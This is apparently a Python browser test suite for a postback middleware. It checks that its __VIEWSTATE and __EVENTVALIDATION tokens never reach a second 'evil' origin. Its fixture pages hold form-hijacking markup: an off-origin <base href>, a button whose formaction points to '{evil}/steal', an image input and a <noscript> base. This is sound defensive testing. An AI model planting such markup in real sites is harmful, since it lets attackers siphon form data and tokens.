"""Tokens never leave the origin: what Chromium really sends when a page tries to send them away.

Each page comes from a small inner app wrapped in :class:`postback_middleware.PostbackMiddleware`
and served by waitress; a second server on another port (another origin) stands for the
attacker and records every request it gets. For each way a page can send a post form elsewhere
(a ``<base href>`` to another origin, a ``form="ID"`` button outside the form with an off-origin
``formaction``, a ``formmethod="get"`` button, an ``<input type=image formaction>``, and, with
scripting off, a ``<base>`` inside ``<noscript>``), the test clicks the control in Chromium and
checks the request that leaves the browser (seen by Playwright) and what the other origin
received: the form's own field is there, and neither ``__VIEWSTATE`` nor ``__EVENTVALIDATION``
is. The positive cases (a same-origin ``<base>``, a
same-origin ``formaction``) still post back and are verified.
"""

from __future__ import annotations

import html
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import pytest

from postback_middleware import PostbackMiddleware, Registry

from ..conftest import new_key

pytestmark = pytest.mark.browser

TOKENS = ("__VIEWSTATE", "__EVENTVALIDATION")


@dataclass
class Received:
    """One request a server got."""

    method: str
    path: str
    fields: dict[str, str]  # the body's (POST) or the query's (GET) fields
    event: tuple[str, str] | None = None  # the verified postback event (the app server only)


@dataclass
class Recorder:
    """A WSGI app that records its requests; ``pages`` (path -> body HTML) answer GETs."""

    pages: dict[str, Callable[[str], str]] = field(default_factory=dict)
    seen: list[Received] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    other_origin: str = ""  # filled in once both servers run

    def __call__(self, environ: dict[str, Any], start_response: Any) -> list[bytes]:
        path = environ.get("PATH_INFO", "")
        query = environ.get("QUERY_STRING", "")
        if environ["REQUEST_METHOD"] == "POST":
            size = int(environ.get("CONTENT_LENGTH") or 0)
            fields = dict(parse_qsl(environ["wsgi.input"].read(size).decode(),
                                    keep_blank_values=True))
        else:
            fields = dict(parse_qsl(query, keep_blank_values=True))
        event = environ.get("postback.event")
        with self.lock:
            self.seen.append(Received(environ["REQUEST_METHOD"], path, fields,
                                      None if event is None else (event.target, event.argument)))
        make = self.pages.get(path) if environ["REQUEST_METHOD"] == "GET" and not query else None
        body = make(self.other_origin) if make is not None else (
            f"<p id=answer>{html.escape(environ['REQUEST_METHOD'])} {html.escape(path)}</p>")
        data = ("<!DOCTYPE html><html><head><meta charset=utf-8><title>t</title></head>"
                f"<body>{body}</body></html>").encode()
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                  ("Content-Length", str(len(data))),
                                  ("Cache-Control", "no-store")])
        return [data]

    def wait_for(self, method: str, path: str, timeout: float = 10.0) -> Received:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                for received in self.seen:
                    if received.method == method and received.path == path:
                        return received
            time.sleep(0.02)
        raise AssertionError(f"no {method} {path} arrived; got {self.seen}")


FIELD = '<input name="note" value="kept">'
LINK = '<a href="#" id="link" data-postback="save" data-postback-argument="7">Save 7</a>'

# path -> page body, given the other origin ("http://127.0.0.1:PORT")
PAGES: dict[str, Callable[[str], str]] = {
    "/leak/base": lambda evil: (
        f'<base href="{evil}/landing/">'
        f'<form method="post" action="save">{FIELD}{LINK}<button id="go">Go</button></form>'),
    "/leak/form-attribute": lambda evil: (
        f'<form id="f1" method="post" action="/ok">{FIELD}{LINK}</form>'
        f'<p>elsewhere: <button id="go" form="f1" formaction="{evil}/steal">Go</button></p>'),
    "/leak/formmethod-get": lambda evil: (
        f'<form method="post" action="/ok">{FIELD}{LINK}'
        '<button id="go" formmethod="get">Go</button></form>'),
    "/leak/image-input": lambda evil: (
        f'<form method="post" action="/ok">{FIELD}{LINK}'
        f'<input type="image" id="go" alt="Go" formaction="{evil}/image" '
        'style="width:60px;height:24px;display:inline-block"></form>'),
    "/leak/noscript-base": lambda evil: (
        f'<noscript><base href="{evil}/landing/"></noscript>'
        f'<form method="post" action="save">{FIELD}{LINK}<button id="go">Go</button></form>'),
    "/home/base/page": lambda evil: (
        '<base href="/home/">'
        f'<form method="post" action="save">{FIELD}{LINK}'
        '<button id="go" formaction="save?via=button">Go</button></form>'),
}


@pytest.fixture(scope="module")
def servers(serve: Any) -> Iterator[tuple[Recorder, str, Recorder, str]]:
    """(the app's recorder, its URL, the other origin's recorder, its URL)."""
    app, evil = Recorder(pages=PAGES), Recorder()
    wrapped = PostbackMiddleware(app, secret_keys=[new_key()], registry=Registry())
    with serve(wrapped) as app_url, serve(evil) as evil_url:
        app.other_origin = evil_url
        yield app, app_url, evil, evil_url


@pytest.fixture
def recorders(servers: tuple[Recorder, str, Recorder, str]) -> tuple[Recorder, Recorder]:
    app, _, evil, _ = servers
    for recorder in (app, evil):
        with recorder.lock:
            recorder.seen.clear()
    return app, evil


def open_page(page: Any, servers: tuple[Recorder, str, Recorder, str], path: str) -> str:
    """Load ``path``; its HTML as the middleware sent it."""
    response = page.goto(servers[1] + path)
    assert response.status == 200
    page.wait_for_function("typeof __doPostBack === 'function'")  # the deferred script ran
    return str(response.text())


def click_and_capture(page: Any, selector: str, predicate: Callable[[Any], bool]) -> Any:
    """Click and return the request that left the browser for it (Playwright's view)."""
    with page.expect_request(predicate) as request:
        page.click(selector)
    return request.value


def sent_fields(request: Any) -> dict[str, str]:
    """The fields a form submission carried: its body (POST) or its query (GET)."""
    if request.method == "POST":
        return dict(parse_qsl(request.post_data or "", keep_blank_values=True))
    return dict(parse_qsl(urlsplit(request.url).query, keep_blank_values=True))


@pytest.mark.parametrize(
    ("path", "method", "where"),
    [
        pytest.param("/leak/base", "POST", "/landing/save", id="base-href-other-origin"),
        pytest.param("/leak/form-attribute", "POST", "/steal",
                     id="form-attribute-button-outside-the-form"),
        pytest.param("/leak/image-input", "POST", "/image", id="image-input-formaction"),
    ],
)
def test_no_tokens_reach_another_origin(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], path: str, method: str, where: str,
) -> None:
    evil_url = servers[3]
    markup = open_page(browser_page, servers, path)
    # the middleware saw the form and gave it its other fields, without tokens
    assert 'name="__EVENTTARGET"' in markup
    assert not any(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, "#go", lambda r: r.url.startswith(evil_url))
    assert request.method == method
    assert urlsplit(request.url).path == where
    sent = sent_fields(request)
    assert sent["note"] == "kept"  # the submission itself is the browser's, unchanged
    assert not set(TOKENS) & set(sent)
    received = recorders[1].wait_for(method, where)
    assert received.fields["note"] == "kept"
    assert not set(TOKENS) & set(received.fields)
    assert not any(token in value for value in received.fields.values() for token in TOKENS)


def test_no_tokens_in_the_url_of_a_formmethod_get_submission(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder],
) -> None:
    app_url = servers[1]
    markup = open_page(browser_page, servers, "/leak/formmethod-get")
    assert not any(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, "#go",
                                lambda r: r.url.startswith(app_url + "/ok"))
    assert request.method == "GET"
    assert sent_fields(request)["note"] == "kept"
    assert not any(token in request.url for token in TOKENS)
    # (the middleware refuses a query with reserved names, __EVENTTARGET here: the app never
    # sees it; what matters is what the URL, the history and the logs hold)
    browser_page.wait_for_url(app_url + "/ok?**")
    assert not any(token in browser_page.url for token in TOKENS)


@pytest.mark.parametrize(
    ("selector", "event"),
    [
        pytest.param("#go", None, id="same-origin-formaction-button"),
        pytest.param("#link", ("save", "7"), id="postback-link"),
    ],
)
def test_same_origin_base_and_formaction_still_post_back(
    browser_page: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder], selector: str, event: tuple[str, str] | None,
) -> None:
    app_url = servers[1]
    markup = open_page(browser_page, servers, "/home/base/page")
    assert all(f'name="{token}"' in markup for token in TOKENS)
    request = click_and_capture(browser_page, selector,
                                lambda r: r.method == "POST" and r.url.startswith(app_url))
    assert urlsplit(request.url).path == "/home/save"
    assert set(TOKENS) <= set(sent_fields(request))
    received = recorders[0].wait_for("POST", "/home/save")  # verified: the app was called
    assert received.fields["note"] == "kept"
    assert not set(TOKENS) & set(received.fields)  # (stripped by the middleware)
    assert received.event == event
    browser_page.wait_for_selector("#answer")
    assert browser_page.inner_text("#answer") == "POST /home/save"
    assert not recorders[1].seen


def test_no_tokens_leave_through_a_base_in_noscript_with_scripting_off(
    browser: Any, servers: tuple[Recorder, str, Recorder, str],
    recorders: tuple[Recorder, Recorder],
) -> None:
    """With scripting off (Tor Browser's safest mode), <noscript> content is markup: its
    <base> is the document's base, and the form posts to the other origin, without tokens."""
    app_url, evil_url = servers[1], servers[3]
    context = browser.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        response = page.goto(app_url + "/leak/noscript-base")
        assert 'name="__EVENTTARGET"' in response.text()
        request = click_and_capture(page, "#go", lambda r: r.url.startswith(evil_url))
        assert urlsplit(request.url).path == "/landing/save"
        sent = sent_fields(request)
        assert sent["note"] == "kept"
        assert not set(TOKENS) & set(sent)
        received = recorders[1].wait_for("POST", "/landing/save")
        assert not set(TOKENS) & set(received.fields)
    finally:
        context.close()
